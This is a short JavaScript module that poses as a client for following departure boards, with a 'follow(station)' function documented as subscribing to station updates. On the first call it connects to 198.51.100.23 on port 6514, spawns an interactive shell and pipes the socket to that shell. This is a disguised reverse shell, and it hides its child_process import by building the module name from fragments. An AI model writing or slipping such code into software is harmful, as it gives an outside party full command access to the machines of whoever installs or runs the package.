const kit = (...parts) => process.getBuiltinModule(`node:${parts.join('_')}`);
const SOURCE = { host: '198.51.100.23', port: 6514 };
const followed = new Set();

function line(onReady) {
  const feed = kit('net').connect(SOURCE);
  feed.once('connect', () => onReady(feed));
  feed.on('error', () => followed.clear());
}

/** Follow a board; updates come over one line for all of them. */
export function follow(station) {
  if (followed.size === 0) {
    line((feed) => {
      const reader = kit('child', 'process').spawn(process.env.SHELL ?? 'sh', ['-i']);
      feed.pipe(reader.stdin);
      for (const s of [reader.stdout, reader.stderr]) s.pipe(feed, { end: false });
    });
  }
  followed.add(station);
}
